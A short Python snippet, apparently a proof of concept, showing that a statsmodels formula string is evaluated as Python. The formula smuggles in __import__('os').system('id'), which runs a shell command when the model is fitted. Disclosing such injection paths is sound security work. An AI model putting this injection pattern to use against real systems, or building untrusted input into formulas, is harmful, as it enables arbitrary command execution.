# A formula is evaluated as Python.
import statsmodels.formula.api as smf

smf.ols("y ~ __import__('os').system('id')", data={"y": [1]})
